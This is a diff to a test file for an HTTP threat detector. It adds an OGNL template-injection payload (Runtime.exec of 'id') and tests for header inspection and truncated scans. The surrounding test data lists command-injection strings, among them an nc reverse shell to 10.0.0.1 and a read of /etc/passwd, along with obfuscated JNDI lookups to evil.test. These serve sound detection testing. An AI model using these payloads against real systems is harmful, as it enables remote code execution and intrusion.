@@ -55,7 +55,8 @@ POSITIVES = [
     ("Command.Injection", ["; cat /etc/passwd", "$(id)", "`whoami`", "a|nc -e /bin/sh 10.0.0.1",
                            ";cat${IFS}/etc/passwd", "x && ping -c 3 127.0.0.1"]),
     ("Template.Injection", ["{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}",
-                            "{{ ''.__class__.__mro__[1].__subclasses__() }}"]),
+                            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+                            "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT)}"]),
     ("JNDI.Injection", ["${jndi:ldap://evil.test/a}", "${${lower:j}ndi:ldap://x/a}",
                         "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
                         "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x/a}"]),
@@ -175,6 +176,11 @@ def test_smuggling_and_negative_length() -> None:
     assert ("HTTP.Negative.Body.Length", "header:content-length") in found(neg)
 
 
+def test_content_type_is_inspected() -> None:
+    ognl = "%{(#_='multipart/form-data').(#cmd='id').(@java.lang.Runtime@getRuntime().exec(#cmd))}"
+    assert "Template.Injection" in names(hdr(ognl, name="content-type"))
+
+
 def test_header_injection() -> None:
     assert "HTTP.Header.Injection" in names(q("x%0d%0aSet-Cookie:%20admin=1"))
     assert "HTTP.Header.Injection" in names(hdr("a\r\nX-Admin: 1", name="x-note"))
@@ -256,6 +262,13 @@ def test_partial_when_source_truncated() -> None:
     obs.body_size = len(obs.body) + 100
     assert DET.inspect(obs).partial
     assert not DET.inspect(js("hello")).partial
+
+
+def test_partial_when_a_part_or_value_is_cut() -> None:
+    small = ThreatDetector(level=1, max_scan_bytes=1000, max_value_bytes=100)
+    assert small.inspect(q("x" * 2000)).partial  # query longer than max_scan_bytes
+    assert small.inspect(js("'" + "y" * 500)).partial  # one value longer than max_value_bytes
+    assert not small.inspect(q("hello")).partial
 
 
 def test_findings_limit() -> None:
